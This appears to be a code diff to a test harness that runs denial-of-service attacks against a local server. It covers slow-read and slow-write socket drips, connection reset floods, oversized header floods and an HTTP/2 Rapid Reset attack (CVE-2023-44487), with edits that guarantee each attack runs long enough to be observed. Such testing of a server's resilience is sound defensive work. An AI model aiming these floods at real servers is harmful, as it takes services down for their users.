@@ -72,7 +72,8 @@ function slowly(target: Besieged, count: number, start: string, more: string, ev
     let drip: NodeJS.Timeout | undefined;
     const opened = attack.open((socket) => {
       socket.write(start);
-      drip = setInterval(() => socket.write(more), everyMs);
+      // What has come is read before more is said: after a pause of this process that would take the answer away.
+      drip = setInterval(() => setImmediate(() => socket.write(more)), everyMs);
     });
     return opened.closed.then(() => clearInterval(drip));
   });
@@ -101,12 +102,13 @@ export function slowRead(target: Besieged, count: number): Attack {
   const one = `GET /v1/transfers?page_size=100 HTTP/1.1\r\nhost: x\r\nauthorization: ${target.authorization}\r\n\r\n`;
   const answered = Array.from({ length: count }, () => {
     const { socket } = attack.open((opened) => opened.write(one.repeat(AT_ONCE)));
-    return new Promise<void>((done) =>
+    return new Promise<void>((done) => {
       socket.once("data", () => {
         socket.pause();
         done();
-      }),
-    );
+      });
+      socket.once("close", done); // This process stood still before it asked, and was cut for that.
+    });
   });
   attack.over = Promise.all(answered).then(() => {});
   return attack;
@@ -128,22 +130,26 @@ export function idleSockets(target: Besieged, count: number): Attack {
   return attack;
 }
 
-/** For a time, so many workers each do a thing again and again. */
-function repeatedly(attack: Sockets, workers: number, forMs: number, once: () => Promise<void>): Attack {
+/** For a time, and at least until so many sockets were opened, so many workers each do a thing again and again. */
+function repeatedly(
+  attack: Sockets,
+  { workers, forMs, least }: { workers: number; forMs: number; least: number },
+  once: () => Promise<void>,
+): Attack {
   const endMs = performance.now() + forMs;
   const worker = async () => {
-    while (performance.now() < endMs && !attack.isStopped) await once();
+    while ((performance.now() < endMs || attack.opened < least) && !attack.isStopped) await once();
   };
   attack.over = Promise.all(Array.from({ length: workers }, worker)).then(() => {});
   return attack;
 }
 
 /** Connects and resets, half of the time after a whole request: the call behind it begins and is canceled. */
-export function resetFlood(target: Besieged, workers: number, forMs: number): Attack {
+export function resetFlood(target: Besieged, workers: number, forMs: number, least: number): Attack {
   const attack = new Sockets(target);
   const whole = `GET /v1/transfers HTTP/1.1\r\nhost: x\r\nauthorization: ${target.authorization}\r\n\r\n`;
   let turn = 0;
-  return repeatedly(attack, workers, forMs, async () => {
+  return repeatedly(attack, { workers, forMs, least }, async () => {
     const asks = turn++ % 2 === 0;
     const { closed } = attack.open((socket) => {
       if (asks) socket.write(whole, () => socket.resetAndDestroy());
@@ -157,7 +163,7 @@ export function resetFlood(target: Besieged, workers: number, forMs: number): At
 export function headerFlood(target: Besieged, workers: number, forMs: number): Attack {
   const attack = new Sockets(target);
   const lines = Array.from({ length: 512 }, (_, index) => `x-${index}: ${"a".repeat(100)}\r\n`).join("");
-  return repeatedly(attack, workers, forMs, async () => {
+  return repeatedly(attack, { workers, forMs, least: workers }, async () => {
     const { closed } = attack.open((socket) => {
       socket.write("GET /v1/transfers HTTP/1.1\r\nhost: x\r\n");
       const flood = () => {
@@ -181,12 +187,13 @@ const PATIENCE_MS = 30_000;
 
 /**
  * Opens streams of HTTP/2 and resets each at once (CVE-2023-44487), on a new connection whenever one is ended: for a
- * time, and until one was.
+ * time, and until one was and so many streams were opened.
  */
-export async function rapidReset(port: number, path: string, forMs: number): Promise<RapidReset> {
+export async function rapidReset(port: number, path: string, forMs: number, least: number): Promise<RapidReset> {
   const told = { streams: 0, cut: 0 };
   const startMs = performance.now();
-  const goesOn = () => performance.now() < startMs + (told.cut === 0 ? forMs + PATIENCE_MS : forMs);
+  const isShown = () => told.cut > 0 && told.streams >= least;
+  const goesOn = () => performance.now() < startMs + (isShown() ? forMs : forMs + PATIENCE_MS);
   const headers = { ":method": "POST", ":path": path, "content-type": "application/grpc", te: "trailers" };
   while (goesOn()) {
     const session = connectHttp2(`http://127.0.0.1:${port}`, { localAddress: ATTACKER } as object);
